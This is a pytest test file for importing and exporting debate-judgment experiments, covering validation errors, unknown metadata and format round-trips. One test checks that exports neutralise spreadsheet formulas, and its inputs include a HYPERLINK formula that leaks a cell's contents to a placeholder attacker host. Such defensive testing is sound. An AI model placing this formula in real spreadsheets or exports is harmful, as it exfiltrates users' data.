"""Judgments that were made elsewhere become an experiment with the same rows and results."""

import csv
import io
import json
import uuid
from datetime import UTC, datetime

import hypothesis
import pytest
from harness import new_debate
from hypothesis import strategies as st

from app.cli.experiment.report import html_report, markdown_report
from app.cli.experiment.source import judgments_of_file
from app.core.experiments import imported
from app.statistics import exported
from app.statistics.results import results as computed
from app.wire import tables

HEAD = "debate_id,motion_id,proposer,opponent,judge,winner,order,correct\n"
ROWS = (
    "d1,m1,a,b,j,proposer,as_spoken,proposer\nd1,m1,a,b,j,proposer,swapped,proposer\n"
    "d2,m1,b,a,j,opponent,as_spoken,opponent\nd3,m2,a,b,person:ana,tie,as_spoken,\n"
)


def send(api, body, name=None):
    return api.http.post("/experiments/import", params={"name": name or f"i-{uuid.uuid4()}"}, content=body)


def test_nothing_of_it_is_held_here_and_its_name_is_taken(api):
    name = f"i-{uuid.uuid4()}"
    experiment = send(api, HEAD + ROWS, name).json()["data"]["experiment"]
    assert (experiment["status"], experiment["progress"]["judgments"]["completed"]) == ("completed", 4)
    assert experiment["imported"]
    matches = api.http.get(f"/experiments/{experiment['id']}/matches").json()["data"]["matches"]
    assert all(api.transcript(match["debate_id"])["debate"]["imported"] for match in matches)
    assert api.http.post(f"/experiments/{experiment['id']}/start").status_code == 409
    assert send(api, HEAD + ROWS, name).status_code == 409


def test_its_debates_are_imported_and_those_that_are_held_here_are_not(api):
    experiment = send(api, HEAD + ROWS).json()["data"]["experiment"]
    matches = api.http.get(f"/experiments/{experiment['id']}/matches").json()["data"]["matches"]
    assert api.http.get(f"/debates/{matches[0]['debate_id']}").json()["data"]["debate"]["imported"] is True
    assert api.http.post("/debates", json=new_debate()).json()["data"]["debate"]["imported"] is False


def test_what_nobody_knows_of_it_is_unknown(api):
    """Neither the spec that it is stored with nor a default is shown as if somebody had said it."""
    experiment = send(api, HEAD + ROWS).json()["data"]["experiment"]
    at = f"/experiments/{experiment['id']}"
    found = api.http.get(f"{at}/results").json()["data"]["results"]
    names = ("formats", "models", "prompts", "personas", "first_judgment_at", "last_judgment_at")
    assert {name: found["rests_on"][name] for name in names} == dict.fromkeys(names)
    assert "unknown" in found["why"]["rests_on"]
    assert found["costs"] == {
        "total_usd": None,
        "contestants": [],
        "judges": [],
        "arbitrator": None,
        "other_usd": None,
    }
    assert "unknown" in found["why"]["costs"]
    shown = api.http.get(at).json()["data"]["experiment"]
    assert (shown["spec"], shown["cost_usd"], shown["estimate"]) == (None, None, None)
    page = api.http.get(at, headers={"Accept": "text/html"}).text
    report = html_report("Imported", found, shown) + markdown_report("Imported", found, shown)
    for text in (page, report):
        assert "unknown" in text.lower()
        for claim in ("final_ruling", "scripted", "begun", "$0"):
            assert claim not in text, claim
    [debate, *_] = [
        json.loads(line) for line in api.http.get(f"{at}/export?what=debates&format=jsonl").text.splitlines()
    ]
    assert (debate["format"], debate["created_at"], debate["updated_at"]) == (None, None, None)


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("", "line 1"),
        (HEAD, "no judgments"),
        (b"\xff\xfe", "UTF-8"),
        ("debate_id,motion_id,proposer,judge\n", "'winner' is missing"),
        (HEAD.replace("order", "colour") + ROWS, "'colour'"),
        (HEAD + ROWS + "d4,m1,a,b,j,nobody,as_spoken,\n", "line 6"),
        (HEAD + ROWS + "d1,m2,a,b,j,tie,as_spoken,proposer\n", "line 6"),
        (HEAD + "d4,m1,a,b,j,tie,as_spoken,,,,\n", "line 2"),
        (HEAD + ROWS + "d4,m1,,b,j,tie,as_spoken,proposer\n", "line 6: proposer is empty, and there is an opponent"),
        (HEAD + ROWS + "d4,m1,a,b,j,tie,as_spoken,\n", "line 6: correct is given for the motion 'm1' in some lines"),
        (
            HEAD.replace("order", "through_round") + "d1,m1,a,b,j,tie,1.5,\n",
            "line 2: through_round must be a whole number",
        ),
        (HEAD.replace("order", "created_at") + "d1,m1,a,b,j,tie,noon,\n", "line 2: created_at must be a time"),
        (HEAD.replace("order", "judgment_id") + "d1,m1,a,b,j,tie,1,\nd2,m1,a,b,j,tie,1,\n", "line 3: the judgment '1'"),
        (HEAD.replace("order", "arm") + "d1,m1,a,b,j,tie,x,\nd1,m1,a,b,k,tie,y,\n", "line 3: the debate 'd1'"),
    ],
)
def test_a_mistake_is_refused_with_its_line_and_nothing_is_made(api, module_place, body, words):
    before = module_place.sql("SELECT count(*) FROM experiments")
    answer = send(api, body)
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "INVALID_INPUT")
    assert words in answer.json()["error"]["message"]
    assert module_place.sql("SELECT count(*) FROM experiments") == before


def test_the_command_line_and_the_server_know_the_same_columns():
    assert {*imported.NEEDED, *imported.OPTIONAL} == set(exported.COLUMNS)
    assert set(imported.NEEDED) < set(exported.NEEDED)
    assert imported.MAY_BE_EMPTY == exported.MAY_BE_EMPTY


# Whatever is exported is read back.

PLAIN = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=12)
FORMULAS = st.builds(
    "{}{}1".format, st.sampled_from(["", "'", "''"]), st.sampled_from("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
)
WORDS = st.one_of(PLAIN, FORMULAS)
NAMES = WORDS.filter(str.strip)
CONTESTANTS = NAMES.map(str.strip)
SIDES = ("proposer", "opponent")
SHARES = st.floats(0, 1, allow_subnormal=False)
SCORES = {"proposer": (8.5, 3.0), "opponent": (0.0, 0.25), "tie": (5.0, 5.0)}
TIMES = st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC))


@st.composite
def experiments(draw):
    """The rows of an experiment: arms with two debaters, one, or none; motions with known answers and without; judges
    that judge in both orders, and again."""
    arms = draw(st.lists(st.one_of(st.just(""), NAMES), min_size=1, max_size=3, unique=True))
    motions = draw(st.dictionaries(NAMES, st.booleans(), min_size=1, max_size=3))
    contestants = draw(st.lists(CONTESTANTS, min_size=2, max_size=3, unique=True))
    judges = draw(st.lists(NAMES, min_size=1, max_size=2, unique=True))
    rows = []
    for number in range(draw(st.integers(1, 5))):
        motion = draw(st.sampled_from(sorted(motions)))
        debaters = draw(st.permutations(contestants))[: draw(st.integers(0, 2))]
        proposer, opponent = [*debaters, None, None][:2]
        debate = {
            "debate_id": f"{draw(WORDS)}{number}",
            "motion_id": motion,
            "arm": draw(st.sampled_from(arms)),
            "proposer": proposer,
            "opponent": opponent,
            "repeat": draw(st.integers(1, 3)),
            "correct": draw(st.sampled_from(SIDES)) if motions[motion] else None,
        }
        rows += [{**debate, **one} for one in draw(st.lists(judgments(judges), min_size=1, max_size=3))]
    return [{"judgment_id": f"j{number}", **row} for number, row in enumerate(rows)]


def judgments(judges):
    def one(winner):
        return st.fixed_dictionaries(
            {
                "judge": st.sampled_from(judges),
                "player": st.sampled_from(["external", "scripted", "openai:gpt-5", "own-endpoint:a-model"]),
                "order": st.sampled_from(["as_spoken", "swapped"]),
                "through_round": st.sampled_from([None, 0, 1, 3]),
                "winner": st.just(winner),
                "score_proposer": st.just(SCORES[winner][0]),
                "score_opponent": st.just(SCORES[winner][1]),
                "confidence": st.none() | SHARES,
                "cost_usd": SHARES,
                "created_at": st.none() | TIMES.map(lambda at: f"{at:%Y-%m-%dT%H:%M:%S}.{at.microsecond // 1000:03}Z"),
            }
        )

    return st.sampled_from(sorted(SCORES)).flatmap(one)


def as_csv(rows):
    return b"".join(tables.as_csv("judgments", [[dict.fromkeys(exported.COLUMNS) | row for row in rows]]))


def kept(rows):
    """All but the ids, which are new with each import."""
    names = [name for name in exported.COLUMNS if name not in ("judgment_id", "debate_id", *imported.NOT_KEPT)]
    return sorted(repr([row[name] for name in names]) for row in rows)


def together(rows):
    """The debates by what they are: which judgments are of the same one."""
    found = {}
    for row in rows:
        found.setdefault(row["debate_id"], []).append(row)
    return sorted(kept(of_one) for of_one in found.values())


@hypothesis.settings(max_examples=15, derandomize=True, database=None)
@hypothesis.given(rows=experiments())
def test_whatever_is_exported_can_be_imported_and_read_from_a_file(api, tmp_path_factory, rows):
    at = f"/experiments/{imported_from(api, as_csv(rows))}"
    first = exported_rows(api, at)
    assert together(first) == together(rows)
    again = f"/experiments/{imported_from(api, api.http.get(f'{at}/export').content)}"
    assert together(exported_rows(api, again)) == together(rows)
    found = api.http.get(f"{at}/results").json()["data"]["results"]
    directory = tmp_path_factory.mktemp("exported")
    for form in ("csv", "jsonl", "parquet"):
        file = directory / f"judgments.{form}"
        file.write_bytes(api.http.get(f"{at}/export", params={"format": form}).content)
        offline = json.loads(json.dumps(computed(judgments_of_file(file))))
        for part in ("ratings", "matrix", "sides", "arms", "differences", "beliefs", "swing"):
            assert offline[part] == found[part], (form, part)


def test_no_cell_of_an_export_is_a_formula_to_a_spreadsheet(api):
    judges = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'quoted"]
    text = io.StringIO(newline="")
    names = HEAD.strip().split(",")
    csv.writer(text).writerows([names, *([f"={judge}", "m", "a", "b", judge, "tie", "", ""] for judge in judges)])
    at = f"/experiments/{imported_from(api, text.getvalue().encode())}"
    body = api.http.get(f"{at}/export").content
    cells = [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n"))] == []
    assert {f"'{judges[0]}", "'quoted"} <= set(cells)
    for source in (at, f"/experiments/{imported_from(api, body)}"):
        assert {row["judge"] for row in exported_rows(api, source)} == set(judges)


def imported_from(api, body):
    answer = send(api, body)
    assert answer.status_code == 201, answer.text
    return answer.json()["data"]["experiment"]["id"]


def exported_rows(api, at):
    lines = api.http.get(f"{at}/export", params={"format": "jsonl"}).content.split(b"\n")
    return [json.loads(line) for line in lines if line]
